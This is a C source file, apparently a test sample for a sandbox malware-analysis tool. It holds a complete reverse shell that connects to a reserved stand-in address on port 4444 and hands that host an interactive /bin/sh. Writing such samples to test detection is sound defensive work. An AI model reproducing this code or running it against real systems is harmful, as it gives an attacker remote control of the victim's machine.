/* Reverse shell: connects to 203.0.113.10:4444, dup2s the socket onto stdin/stdout/stderr and execs /bin/sh -i.
 * Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
 * simulated internet, reserved addresses). Built into the build directory and copied
 * without the exec bit; never run it on a host, only through `sandtrap analyze`.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(4444)};
	inet_pton(AF_INET, "203.0.113.10", &a.sin_addr);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof(a)) != 0) {
		perror("connect");
		return 1;
	}
	alarm(3);
	for (int fd = 0; fd < 3; fd++)
		dup2(s, fd);
	char *argv[] = {"/bin/sh", "-i", NULL};
	execv(argv[0], argv);
	return 1;
}
